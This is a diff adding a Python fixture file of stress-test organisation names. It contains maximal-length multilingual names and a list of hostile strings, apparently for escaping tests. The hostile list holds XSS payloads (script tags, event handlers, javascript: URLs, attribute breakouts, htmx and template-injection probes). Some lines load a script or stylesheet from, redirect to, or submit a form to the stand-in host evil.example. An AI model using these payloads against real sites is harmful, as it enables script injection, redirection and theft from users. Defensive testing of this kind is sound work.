@@ -1,0 +1,51 @@
+"""Names that nobody would give an organisation: as long as they may be, and full of markup and scripts."""
+
+#: As many characters as a name may have.
+_LENGTH = 300
+LONG = [
+    *(f"{number:02}{'Donaudampfschifffahrtsgesellschaft' * 9}"[:_LENGTH] for number in range(8)),
+    "جمعية الصداقة العربية الألمانية في إرلانغن",
+    ("جمعيةالصداقةالعربيةالألمانية" * 11)[:_LENGTH],
+    ("многофункциональныймиграционныйцентр" * 9)[:_LENGTH],
+    f"https://example.org/{'verein-' * 40}"[:_LENGTH],
+    "Verein für alle",
+]
+
+HOSTILE = [
+    "<script>alert(7)</script>",
+    "</title><script>alert(7)</script>",
+    "<img src=x onerror=alert(7)>",
+    "<svg onload=alert(7)>",
+    "<svg/onload=alert(7)//",
+    "</svg><script>alert(7)</script>",
+    "<svg><animate onbegin=alert(7) attributeName=x dur=1s>",
+    "<body onload=alert(7)>",
+    "<iframe srcdoc='<script>alert(7)</script>'></iframe>",
+    "<iframe src=javascript:alert(7)></iframe>",
+    "<a href=javascript:alert(7) autofocus onfocus=alert(7)>Verein</a>",
+    "<details open ontoggle=alert(7)>",
+    "<video><source onerror=alert(7)>",
+    "<input autofocus onfocus=alert(7)>",
+    "<textarea autofocus onfocus=alert(7)>",
+    "</textarea><script>alert(7)</script>",
+    "</select><script>alert(7)</script>",
+    '"><script>alert(7)</script>',
+    "'><script>alert(7)</script>",
+    '" autofocus onfocus=alert(7) x="',
+    "' autofocus onfocus=alert(7) x='",
+    "<style>*{background:url(javascript:alert(7))}</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<base href=//evil.example/>",
+    "<form action=//evil.example><button>ok</button></form>",
+    "<div hx-get=/orte hx-trigger=load hx-on:click=alert(7)>Verein</div>",
+    "<div hx-vals='js:{x:alert(7)}' hx-get=/orte hx-trigger=load>",
+    "<div style=position:fixed;inset:0 onmouseover=alert(7)>",
+    "{{ 7 * 7 }}{% raw %} ${alert(7)} #{alert(7)}",
+    "javascript:alert(7)",
+    "--><script>alert(7)</script><!--",
+    "]]><script>alert(7)</script>",
+    "&lt;script&gt;alert(7)&lt;/script&gt;",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<b>Verein & Co</b>",
+]
